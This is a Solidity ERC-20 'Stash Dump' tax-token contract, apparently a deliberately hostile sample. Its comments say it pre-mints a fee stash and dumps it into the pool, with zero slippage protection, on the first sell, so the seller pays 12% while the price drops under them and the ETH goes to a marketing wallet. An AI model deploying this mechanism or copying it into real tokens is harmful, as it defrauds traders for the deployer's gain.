// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

interface IStashRouter {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(
        uint256 amountIn,
        uint256 amountOutMin,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external;
}

/// @title Swap-back tax token with a large fee stash: 5% of buys and 12% of
/// sells go to the contract, and any transfer that is not a buy first sells
/// everything the contract holds to the pool through the router (the fees go
/// to a marketing wallet as ETH). The contract starts with a stash of fees
/// worth a sixth of the pool, so the first seller's transaction dumps it:
/// the seller pays 12%, and the price drops under them before their swap.
contract StashToken is ERC20, Ownable {
    uint256 public constant BUY_FEE = 5;
    uint256 public constant SELL_FEE = 12;

    address public immutable pair;
    address public immutable router;
    address public immutable weth;
    address public marketingWallet;
    uint256 public swapTokensAtAmount;
    mapping(address => bool) public isExcludedFromFees;
    bool private swapping;

    constructor(address router_, address marketing, uint256 supply) ERC20("Stash Dump", "STASH") Ownable(msg.sender) {
        router = router_;
        weth = IDexRouter(router_).WETH();
        pair = IDexFactory(IDexRouter(router_).factory()).createPair(address(this), weth);
        marketingWallet = marketing;
        swapTokensAtAmount = supply / 10_000;
        isExcludedFromFees[msg.sender] = true;
        isExcludedFromFees[address(this)] = true;
        uint256 stash = supply / 12; // fees collected before the pool was seeded
        _mint(msg.sender, supply - stash);
        _mint(address(this), stash);
        _approve(address(this), router_, type(uint256).max);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (
            !swapping && from != pair && !isExcludedFromFees[from] && !isExcludedFromFees[to]
                && balanceOf(address(this)) >= swapTokensAtAmount
        ) {
            swapping = true;
            _swapBack(balanceOf(address(this)));
            swapping = false;
        }
        uint256 rate;
        if (!swapping && !isExcludedFromFees[from] && !isExcludedFromFees[to]) {
            if (from == pair) rate = BUY_FEE;
            else if (to == pair) rate = SELL_FEE;
        }
        uint256 fee = (amount * rate) / 100;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, amount - fee);
    }

    function _swapBack(uint256 amount) private {
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = weth;
        IStashRouter(router).swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, marketingWallet, block.timestamp);
    }
}
